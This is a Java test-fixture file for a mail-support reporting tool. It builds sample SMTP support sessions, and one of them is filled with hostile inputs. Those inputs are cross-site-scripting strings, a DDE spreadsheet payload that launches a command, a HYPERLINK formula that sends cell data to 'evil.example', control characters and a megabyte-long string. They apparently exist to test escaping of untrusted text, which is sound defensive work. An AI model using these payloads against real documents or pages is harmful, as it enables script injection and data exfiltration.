package org.relaybench.report.tests;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

import org.relaybench.core.AccountProfile;
import org.relaybench.core.AuthMethod;
import org.relaybench.core.ClientInfo;
import org.relaybench.core.Evidence;
import org.relaybench.core.Finding;
import org.relaybench.core.MailProtocol;
import org.relaybench.core.Network;
import org.relaybench.core.Security;
import org.relaybench.core.ServerSettings;
import org.relaybench.core.Severity;
import org.relaybench.core.diagnosis.Diagnosis;
import org.relaybench.core.diagnosis.DiagnosisEngine;
import org.relaybench.core.diagnosis.DiagnosisError;
import org.relaybench.core.session.AuditEntry;
import org.relaybench.core.session.DiagnosisRecord;
import org.relaybench.core.session.ProbeRecord;
import org.relaybench.core.session.SessionStatus;
import org.relaybench.core.session.StepRecord;
import org.relaybench.core.session.StepState;
import org.relaybench.core.session.SupportSession;

/** Support sessions for the tests: the seed article's iPhone case, a custom domain, and hostile text. */
final class Fixtures {

    static final Instant T0 = Instant.parse("2026-03-02T14:05:00Z");
    static final String CUSTOMER = "Zoë Müller-Łukasiewicz";
    static final String RELAYING = "The recipient \"friend@example.org\" was rejected by the server because it does "
            + "not allow relaying.";

    /** Script that would change the page title if it ever ran. */
    static final String TITLE_SCRIPT = "<script>document.title='pwned'</script>";
    static final String IMG_ONERROR = "\"><img src=x onerror=alert(1)>";
    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    static final String CONTROLS;
    static final String MEGABYTE;

    static {
        StringBuilder b = new StringBuilder("ctl");
        for (char c = 0; c < 0x20; c++) {
            b.append(c);
        }
        CONTROLS = b.append("\u007f\u0085\u202eend").toString();
        MEGABYTE = "A".repeat(1 << 20);
    }

    private Fixtures() {
    }

    /** The classic: iPhone on iOS 12, AOL, outgoing server without authentication, diagnosed for real. */
    static SupportSession aolIphone(DiagnosisEngine engine) {
        AccountProfile account = AccountProfile.builder("zoe.mueller@aol.com").client(ClientInfo.parse("ios-12"))
                .incoming(server(MailProtocol.IMAP, "imap.aol.com", 993, Security.TLS, AuthMethod.PASSWORD,
                        "zoe.mueller@aol.com", true))
                .outgoing(server(MailProtocol.SMTP, "smtp.aol.com", 587, Security.STARTTLS, AuthMethod.NONE, null,
                        false))
                .network(new Network(Network.Kind.WIFI, Optional.of("Comcast"))).errorText(RELAYING).build();
        Diagnosis d = engine.diagnose(account);
        DiagnosisRecord record = new DiagnosisRecord(T0.plusSeconds(60), d.provider().map(p -> p.id()),
                d.provider().map(p -> p.name()), d.findings(), d.errors());
        List<StepRecord> steps = List.of(
                step("aol-smtp-settings", "open", StepState.WORKED, "", 300),
                step("aol-smtp-settings", "credentials", StepState.WORKED, "Entered full address and password.", 420),
                step("aol-smtp-settings", "host", StepState.SKIPPED, "Host was already right.", 360),
                step("aol-smtp-settings", "test", StepState.WORKED, "Test message arrived.", 600));
        ProbeRecord probe = new ProbeRecord(T0.plusSeconds(120), "smtp.aol.com", 587, "starttls",
                Optional.of("relay-denied"), "Relaying refused without authentication",
                List.of("S: 220 smtp.aol.com ESMTP ready", "C: EHLO relaybench", "S: 250-STARTTLS", "C: STARTTLS",
                        "S: 220 go ahead", "C: MAIL FROM:<zoe.mueller@aol.com>", "S: 250 OK",
                        "C: RCPT TO:<friend@example.org>", "S: 554 5.7.1 Relay access denied", "C: RSET", "C: QUIT"));
        return new SupportSession("5f0c8a4e-2d1b-4c3a-9e7f-1a2b3c4d5e6f", T0, T0.plusSeconds(900), "alice", CUSTOMER,
                "T-1042", SessionStatus.RESOLVED, account, List.of(record), List.of(probe), steps,
                List.of("Customer on iPhone 8, iOS 12.5.\nSends fine again after the change."),
                List.of(audit(1, 0, "opened", "session opened"), audit(2, 60, "diagnosed", "5 findings"),
                        audit(3, 600, "step", "aol-smtp-settings/test worked"),
                        audit(4, 900, "status", "resolved")));
    }

    /** A custom domain no provider knows: settings come from the account, corrected after the findings. */
    static SupportSession customDomain() {
        AccountProfile account = AccountProfile.builder("bob@example-shop.de").client(ClientInfo.parse("thunderbird-128"))
                .incoming(server(MailProtocol.IMAP, "mail.example-shop.de", 143, Security.STARTTLS,
                        AuthMethod.PASSWORD, "bob@example-shop.de", true))
                .outgoing(server(MailProtocol.SMTP, "mail.example-shop.de", 25, Security.NONE, AuthMethod.NONE, null,
                        false))
                .errorText("550 relay not permitted").build();
        Finding port = finding("wrong-smtp-port", Severity.ERROR, 0.8, "Port 25 is not a submission port",
                "imap-submission-port");
        Finding auth = finding("smtp-auth-missing", Severity.ERROR, 0.9, "The outgoing server is used without a login",
                "auth-off");
        DiagnosisRecord record = new DiagnosisRecord(T0.plusSeconds(30), Optional.of("imap"),
                Optional.of("Other provider (IMAP/SMTP)"), List.of(auth, port), List.of());
        return new SupportSession("custom-1", T0, T0.plusSeconds(7200), "bert", "Bob Example", "T-7", SessionStatus.OPEN,
                account, List.of(record), List.of(), List.of(), List.of(), List.of());
    }

    /** Every text field hostile: markup, script, spreadsheet formulas, control characters, a megabyte. */
    static SupportSession hostile() {
        String all = TITLE_SCRIPT + " " + IMG_ONERROR;
        AccountProfile account = AccountProfile.builder("eve@example.net").client(ClientInfo.parse("ios-17"))
                .incoming(server(MailProtocol.IMAP, "imap.example.net", 993, Security.TLS, AuthMethod.PASSWORD,
                        "\"><svg onload=alert(1)>", true))
                .outgoing(server(MailProtocol.SMTP, "smtp.example.net", 465, Security.TLS, AuthMethod.PASSWORD,
                        "+cmd|' /C calc'!A0", true))
                .network(new Network(Network.Kind.CELLULAR, Optional.of(IMG_ONERROR))).errorText(all + " "
                        + CONTROLS + " " + MEGABYTE)
                .build();
        List<Evidence> evidence = List.of(new Evidence(Evidence.Kind.REPLY, "error text", all + MEGABYTE),
                new Evidence(Evidence.Kind.SETTING, "@SUM(1)", "-1+1"));
        Finding f1 = new Finding("relay-denied", Severity.ERROR, 0.7, all, evidence, "core", HYPERLINK,
                Optional.of("=cmd"));
        Finding f2 = new Finding("smtp-auth-missing", Severity.WARNING, 0.4, "@SUM(1)", List.of(), "core", "-1+1",
                Optional.empty());
        Finding f3 = new Finding("x.custom", Severity.INFO, 0.1, "+cmd " + CONTROLS, List.of(), "x", "r",
                Optional.empty());
        DiagnosisRecord record = new DiagnosisRecord(T0, Optional.of(TITLE_SCRIPT), Optional.of(IMG_ONERROR),
                List.of(f1, f2, f3), List.of(new DiagnosisError("x", "r", all)));
        List<StepRecord> steps = List.of(new StepRecord("=cmd", HYPERLINK, StepState.DID_NOT_WORK, all + MEGABYTE,
                T0, IMG_ONERROR), new StepRecord("-1+1", "@SUM(1)", StepState.WORKED, CONTROLS, T0, "+cmd"));
        ProbeRecord probe = new ProbeRecord(T0, "smtp.example.net", 465, "tls", Optional.of(TITLE_SCRIPT), all,
                List.of("S: " + all, "C: " + HYPERLINK, "S: " + CONTROLS));
        List<String> notes = new ArrayList<>(List.of(all, HYPERLINK, "+cmd", "-1+1", "@SUM(1)", CONTROLS, MEGABYTE));
        return new SupportSession("hostile-" + TITLE_SCRIPT, T0, T0.plusSeconds(60), IMG_ONERROR,
                TITLE_SCRIPT + " Eve " + HYPERLINK, HYPERLINK, SessionStatus.RESOLVED, account, List.of(record),
                List.of(probe), steps, notes, List.of(new AuditEntry(1, T0, "@SUM(1)", "=cmd", all + CONTROLS)));
    }

    static ServerSettings server(MailProtocol protocol, String host, int port, Security security, AuthMethod auth,
            String user, boolean password) {
        return ServerSettings.builder(protocol).host(host).port(port).security(security).auth(auth).username(user)
                .passwordSet(password).build();
    }

    static Finding finding(String code, Severity severity, double confidence, String title, String rule) {
        return new Finding(code, severity, confidence, title,
                List.of(new Evidence(Evidence.Kind.SETTING, "smtp", "as configured")), "imap", rule, Optional.empty());
    }

    static StepRecord step(String procedure, String step, StepState state, String note, long seconds) {
        return new StepRecord(procedure, step, state, note, T0.plusSeconds(seconds), "alice");
    }

    static AuditEntry audit(long sequence, long seconds, String action, String detail) {
        return new AuditEntry(sequence, T0.plusSeconds(seconds), "alice", action, detail);
    }
}
